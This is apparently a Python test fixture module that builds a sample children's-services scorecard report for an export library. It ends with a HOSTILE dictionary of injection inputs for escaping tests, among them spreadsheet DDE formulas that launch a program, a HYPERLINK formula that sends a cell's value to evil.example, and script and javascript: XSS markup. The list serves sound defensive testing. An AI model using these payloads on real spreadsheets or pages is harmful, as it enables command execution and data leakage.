"""A report made by hand: small, with one of everything an export must carry."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal

from cyps.comparison import Change, Comparison, Gap, Movement, Rung, Standing, Travel
from cyps.judgement import NotAssessed
from cyps.model import (
    Benchmark,
    FileRead,
    Indicator,
    Observation,
    Rag,
    Scorecard,
    SheetRead,
    Target,
    Theme,
)
from cyps.terms import (
    Kind,
    Period,
    Polarity,
    Problem,
    Severity,
    Source,
    State,
    Unit,
    Value,
    financial_year,
)
from cyps.wording import Bullet, Report

FILE = "scorecard.xlsx"
NOW, BEFORE = financial_year(2016), financial_year(2015)
MARCH = Period(NOW.end.replace(day=1), NOW.end, Kind.MONTH)


def at(cell: str, sheet: str = "LAC") -> Source:
    return Source(FILE, sheet, cell)


def value(written: str, cell: str, unit: Unit = Unit.PERCENT, number: str | None = None) -> Value:
    figure = Decimal(number if number is not None else written.strip("%<>= "))
    places = max(0, -int(figure.as_tuple().exponent))
    return Value(figure, unit, State.GIVEN, written, places, at(cell))


def indicator(**changes: object) -> Indicator:
    """LAC reviews: two years, a month with its counts, a target, a tolerance, England's figure, a RAG."""
    reviews = Indicator(
        id="lac-5.3",
        ref="5.3",
        name="LAC reviews in time",
        entry="lac-reviews-in-time",
        entry_because="its name",
        theme="looked-after",
        section="Looked after children",
        unit=Unit.PERCENT,
        polarity=Polarity.HIGHER,
        polarity_from="workbook",
        measures="process",
        paired_with="",
        window="",
        observations=(
            Observation(BEFORE, value("94.9%", "G12")),
            Observation(
                MARCH,
                value("75.0%", "T12"),
                value("75", "U12", Unit.COUNT),
                value("100", "V12", Unit.COUNT),
            ),
            Observation(NOW, value("83.3%", "H12")),
        ),
        targets=(Target(NOW, value(">=95%", "I12")),),
        tolerances=(Target(NOW, value(">=90%", "J12")),),
        benchmarks=(Benchmark("england", BEFORE, value("93.7%", "K12"), "workbook"),),
        rag=Rag("R", "R", at("L12")),
        source=at("B12"),
    )
    return replace(reviews, **changes)  # type: ignore[arg-type]


def compared(reviews: Indicator) -> Comparison:
    before, _, now = reviews.observations
    because = "down 11.6 points, past the threshold of 2.0 points"
    change = Change(
        now, before, Decimal("-11.6"), None, Movement.DOWN, Travel.WORSE, True, False, Rung.SIZE, because,
        Decimal("5.8"),
    )  # fmt: skip
    england, target = reviews.benchmarks[0].value, reviews.targets[0].value
    return Comparison(
        indicator=reviews,
        outturn=now,
        change=change,
        long_run=None,
        target=Gap(
            now, target, NOW, "target", "workbook", Decimal("-11.7"), Standing.MISSED, Rung.SIZE, "below",
            Decimal(1),
        ),
        benchmarks=(
            Gap(now, england, BEFORE, "england", "workbook", Decimal("-10.4"), Standing.BEHIND, Rung.SIZE,
                "behind", Decimal(5)),
        ),
        month=reviews.observations[1],
        month_differs=True,
    )  # fmt: skip


def plain(name: str, theme: str, outturn: Observation) -> Comparison:
    """An indicator with one figure and nothing to set it beside."""
    bare = indicator(
        id=name.lower().replace(" ", "-"), ref="", name=name, entry=None, theme=theme,
        unit=outturn.value.unit, polarity=Polarity.NONE, polarity_from="none", observations=(outturn,),
        targets=(), tolerances=(), benchmarks=(), rag=None,
    )  # fmt: skip
    given = outturn if outturn.value.number is not None else None
    return Comparison(bare, given, None, None, None, (), None, False)


def bullet(id_: str, kind: str, text: str, **changes: object) -> Bullet:
    said = Bullet(
        id=id_, kind=kind, indicator="lac-5.3", theme="looked-after", rule="worsened", text=text,
        basis="change", rung=Rung.SIZE, rung_words="from the size of the change",
        sources=(at("G12"), at("H12")), order=1, headline=True,
    )  # fmt: skip
    return replace(said, **changes)  # type: ignore[arg-type]


THEMES = (
    Theme("front-door", "Front door", "Front door", 1),
    Theme("looked-after", "Looked after children", "LAC", 2),
)
SUPPRESSED = Value(None, Unit.COUNT, State.SUPPRESSED, "c", 0, at("C4", "Front door"))
BULLETS = (
    bullet("own-1", "strength", "Audit outcomes were good.", indicator=None, theme="front-door", rule="own",
           basis="officer", rung=Rung.NONE, rung_words="", sources=()),
    bullet("worsened:lac-5.3:2015/16", "improvement", "LAC reviews in time fell from 94.9% to 83.3%."),
    bullet("no-polarity:contacts:2015/16", "note", "Contacts stood at 12,345.", indicator="contacts",
           theme="front-door", rule="no_polarity", basis="level", sources=(at("C3", "Front door"),)),
)  # fmt: skip
PROBLEMS = (
    Problem("unreadable-figure", Severity.LOSS, "J5 says “tbc”.", "Put a figure there.", at("J5:J13")),
    Problem("no-targets", Severity.NOTE, "No targets were found.", "Nothing to do."),
)


def report(**changes: object) -> Report:
    """The whole report; `changes` are put in its scorecard."""
    contacts = plain("Contacts", "front-door", Observation(NOW, value("12,345", "C3", Unit.COUNT, "12345")))
    hidden = plain("Small number", "front-door", Observation(NOW, SUPPRESSED))
    comparisons = (contacts, hidden, compared(indicator()))
    card = Scorecard(
        council="Rotherham",
        year=NOW,
        before=BEFORE,
        years=(NOW, BEFORE),
        files=(
            FileRead(
                FILE, "0" * 64, (SheetRead("LAC", False, 1, None), SheetRead("Notes", True, 0, "No table."))
            ),
        ),
        themes=THEMES,
        indicators=tuple(c.indicator for c in comparisons),
        problems=(),
        catalogue="sha256:abc",
    )
    return Report(
        scorecard=replace(card, **changes),  # type: ignore[arg-type]
        comparisons=comparisons,
        bullets=BULLETS,
        not_assessed=(NotAssessed("small-number", "Its figure is hidden by the publisher."),),
        problems=PROBLEMS,
        thresholds=(("change_percent", Decimal("2.0")), ("near_end_part", Decimal(3))),
    )


def empty() -> Report:
    """What is left of a workbook with no figures."""
    return replace(
        report(council=None, year=None, before=None, years=(), indicators=()),
        comparisons=(),
        bullets=(),
        not_assessed=(),
    )


def saying(*sayings: str) -> Report:
    """The whole report with these words wherever a workbook, or an officer, has words of its own.

    An indicator, a bullet of each kind and a problem for each of `sayings`; the council is the last.
    """
    whole = report()
    spoken = tuple(compared(_named(f"lac-{n}", words)) for n, words in enumerate(sayings))
    card = replace(
        whole.scorecard,
        council=sayings[-1],
        files=tuple(FileRead(words, "0" * 64, (SheetRead(words, False, 1, words),)) for words in sayings),
        indicators=tuple(comparison.indicator for comparison in spoken),
    )
    return replace(
        whole,
        scorecard=card,
        comparisons=spoken,
        bullets=tuple(replace(b, text=w, sources=(at("C3", w),)) for b in whole.bullets for w in sayings),
        not_assessed=tuple(NotAssessed(c.indicator.id, c.indicator.name) for c in spoken),
        problems=tuple(
            Problem("a-problem", Severity.DOUBT, words, words, at("A1", words)) for words in sayings
        ),
    )


def _named(id_: str, words: str) -> Indicator:
    colour = Rag(words, None, at("L12", words))
    return indicator(id=id_, name=words, ref=words, section=words, rag=colour, source=at("B12", words))


HOSTILE = {
    "a formula": "=1+1",
    "a formula to another program": "=cmd|' /C calc'!A0",
    "a call out": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "a sum": "+44 20 7946 0000",
    "a function": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a full-width formula": "＝1+1",
    "markup": "<script>alert(1)</script><img src=http://evil.example/x.png onerror=alert(1)>",
    "an entity": "&lt;b&gt; &#x3c;i&#x3e;",
    "a Markdown picture": "![x](http://evil.example/x.png) [y](javascript:alert(1)) <http://evil.example>",
    "a bare link": "see www.evil.example, http://evil.example/a_b_c|d`e or mail me@evil.example",
    "a Markdown block": "# not a heading",
    "a list": "1. not a list",
    "a table": "| a | b |",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe\x85f\ufffeg\x0bh",
    "line breaks": "one\r\ntwo\n\n# three\u2028four",
    "right to left": "مراجعات في الوقت",
    "reordered": "83.3% \u202e%9.49\u202c \u2066x\u2069",
    "half a character": "a\ud800b",
    "ten thousand characters": "word " * 2000,
    "one long word": "w" * 10_000,
    "too long for a cell": "=1 " * 12_000,
    "nothing": "",
}
